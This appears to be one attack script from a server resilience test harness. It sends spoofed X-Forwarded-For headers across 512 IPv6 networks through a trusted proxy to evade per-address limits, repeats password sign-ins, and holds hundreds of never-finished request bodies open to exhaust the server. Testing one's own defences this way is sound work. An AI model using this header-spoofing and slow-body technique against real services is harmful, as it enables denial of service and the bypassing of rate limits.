"""Attack 10: 512 /64s of one IPv6 /48 sign in at once and hold bodies that are never complete.

They come through the trusted proxy, since all IPv6 loopback addresses are one network.
"""

import asyncio
import itertools

from attack_8_endless_bytes import BODY
from attacker import Target, open_stream, repeat
from http_client import Connection
from programs import PROXY

NETWORKS = 512
SIGN_INS = 64
# More than the bytes of half of all bodies, which a neighbourhood may have.
BODIES = 300


async def attack(target: Target) -> None:
    networks = itertools.cycle(range(NETWORKS))
    await asyncio.gather(
        *(_sign_in(target, networks) for _ in range(SIGN_INS)),
        *(repeat(target, lambda: _hold(target, next(networks))) for _ in range(BODIES)),
    )


def _address(network: int) -> str:
    return f"2001:db8:0:{network:x}::1"


async def _sign_in(target: Target, networks: "itertools.cycle[int]") -> None:
    """Signs an attacker in with the right password, each time from the next network."""
    attacker = target.filled.attackers[0]
    body = {"handle": attacker.handle, "password": attacker.password}
    connection = Connection(target.port, PROXY)

    async def attempt() -> str:
        headers = {"X-Forwarded-For": _address(next(networks))}
        return str((await connection.request("POST", "/api/v1/sessions", body=body, headers=headers)).status)

    await repeat(target, attempt)


async def _hold(target: Target, network: int) -> str:
    """Sends a body without its end, and waits until the server refuses it or closes the connection."""
    reader, writer = await open_stream(target, PROXY)
    try:
        head, body = BODY.split(b"\r\n\r\n", 1)
        writer.write(head + f"\r\nX-Forwarded-For: {_address(network)}\r\n\r\n".encode() + body)
        status = await reader.readline()
        await reader.read()
        return f"body {status.split()[1].decode()}" if status else "body closed"
    finally:
        writer.close()
